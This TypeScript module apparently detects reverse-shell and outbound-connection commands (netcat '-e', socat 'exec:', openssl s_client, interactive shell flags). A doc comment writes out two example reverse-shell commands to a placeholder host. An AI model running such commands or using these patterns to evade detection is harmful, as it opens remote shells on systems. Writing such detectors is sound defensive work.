/** Commands that connect, and shells that wait for what comes in. */
import { commandOf, programOf, shells } from './shell.ts';

/** A shell that is told to be interactive. */
export const interactive =
  /\b(?:ba|z|da|k|c|tc|fi)?sh["']?(?:\s{1,9}-{1,2}[a-z]{1,12}){0,3}\s{1,9}-{1,2}(?:[a-hj-z]{0,4}i|interactive)/i;

const netcats = new Set('nc ncat netcat nc.traditional nc.openbsd'.split(' '));

/** `nc -e /bin/sh host 4444`, `socat tcp:host:4444 exec:bash`. */
export function givesAway(stage: string): boolean {
  const { program, words } = commandOf(stage);
  if (program === 'socat') {
    const isRun =
      /\b(?:exec|system):["'\\]{0,3}(?:\/(?:usr\/)?bin\/)?(?:(?:ba|z|da|k)?sh|cmd(?:\.exe)?|powershell(?:\.exe)?)(?:\s{1,9}-[ilp]{1,3})?(?=["'\\,\s]|$)(?!\s{1,9}[-/\w])/i.test(
        stage,
      );
    return isRun && /\b(?:tcp|udp|openssl|ssl|sctp)\d?(?:-\w{1,12})?:["']?[^\s,]/i.test(stage);
  }
  if (!netcats.has(program)) return false;
  const at = words.findIndex((word) => /^(?:-[a-z]{0,9}[ec]|--(?:sh-)?exec)$/i.test(word));
  return at !== -1 && isShellWord(words[at + 1] ?? '') && words.some(isPort) && !isGap(words);
}

const isPort = (word: string): boolean => /^["']?(?:\d{2,5}|\$\{?\w{1,60}\}?)["']?$/.test(word);

/** Where a guide leaves the address to its reader, it connects to nothing. */
const isGap = (words: readonly string[]): boolean => standsForHost(words[words.findIndex(isPort) - 1] ?? '');

const standsForHost = (word: string): boolean =>
  /^(?:<[\w -]{1,30}>|\[[\w -]{1,30}\]|(?:ATTACKER|LHOST|RHOST|KALI|YOUR|TARGET)(?:_\w{1,20})?)$/.test(word);

/** What listens only here can't be reached from elsewhere. */
const isHere = (word: string): boolean => word === '127.0.0.1' || word === 'localhost';

const isShellWord = (word: string): boolean =>
  shells.has(programOf(word)) || /^(?:cmd|powershell|pwsh)$/.test(programOf(word));

export function isConnection(stage: string): boolean {
  const { program, words } = commandOf(stage);
  if (program === 'openssl') return words[0] === 's_client' && /-connect\s{1,9}["']?[\w$.-]{1,250}:/.test(stage);
  return (netcats.has(program) || program === 'telnet') && words.some(isPort) && !words.some(isHere);
}

/** A shell with nothing to run but its input. */
export function isShell(stage = ''): boolean {
  const { program, words } = commandOf(stage.replaceAll(/\d?[<>]&?\s{0,9}[\w/.~&$-]{1,100}/g, ' '));
  return isShellWord(program) && words.every((word) => /^-[a-bd-z]{1,9}$/.test(word));
}
